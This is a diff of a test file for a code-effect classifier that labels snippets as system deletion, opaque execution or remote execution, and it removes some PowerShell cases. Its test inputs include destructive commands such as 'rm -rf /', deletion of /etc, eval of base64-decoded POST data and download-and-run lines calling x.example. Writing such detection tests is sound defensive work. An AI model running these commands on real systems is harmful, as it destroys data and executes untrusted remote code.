@@ -136,10 +136,10 @@ def test_python(text: str, effects: list[str], shell: list[str]) -> None:
         ("import subprocess, sys; subprocess.run(x)", []),
         ("from os import *\nremove('/etc/passwd')", ["delete:system:light"]),
         ("import ctypes; ctypes.CDLL(None).printf(b'id')", []),
-        ("def broken(:", []),
-        ("a = " + "(" * 5000, []),
+        ("def broken(:", ["run-opaque:unknown:light"]),
+        ("a = " + "(" * 5000, ["run-opaque:unknown:light"]),
         ("x = 1\n" * 40_000, ["run-opaque:unknown"]),
-        ("a\0b", []),
+        ("a\0b", ["run-opaque:unknown:light"]),
     ],
 )
 def test_python_that_cannot_be_read(text: str, effects: list[str]) -> None:
@@ -244,8 +244,6 @@ def test_temporary_folders_are_known() -> None:
         ("emacs", '(delete-directory "/etc" t)', ["delete:system"], []),
         ("emacs", '(shell-command "rm -rf /")', [], ["rm -rf /"]),
         ("osascript", 'do shell script "rm -rf /"', [], ["rm -rf /"]),
-        ("pwsh", "Remove-Item -Recurse -Force /etc", ["delete:system"], []),
-        ("pwsh", "Get-ChildItem /etc -Recurse | Remove-Item -Force", ["delete:system"], []),
         # only computes
         ("node", "console.log(JSON.stringify({a: 1}))", [], []),
         ("node", "console.log('rm -rf /')", [], []),
@@ -275,8 +273,6 @@ def test_temporary_folders_are_known() -> None:
         ("emacs", '(message "delete-file")', [], []),
         ("awk", '{print "<a>" "x"}', [], []),
         ("awk", '{print > "/dev/stderr"}', [], []),
-        ("pwsh", "Get-ChildItem | Select-Object Name", [], []),
-        ("pwsh", "Remove-Item -Recurse -WhatIf /etc", [], []),
     ],
 )  # fmt: skip
 def test_other_languages(language: str, text: str, effects: list[str], shell: list[str]) -> None:
@@ -291,7 +287,6 @@ def test_other_languages(language: str, text: str, effects: list[str], shell: li
         ("node", "eval(process.argv[1])", ["run-opaque:unknown"]),
         ("php", "eval(base64_decode($_POST['x']));", ["run-opaque:unknown"]),
         ("php", "eval(file_get_contents('http://x.example'));", ["run-remote:remote"]),
-        ("pwsh", "iwr http://x.example | iex", ["run-remote:remote"]),
         ("cobol", "DISPLAY 'x'", []),
     ],
 )
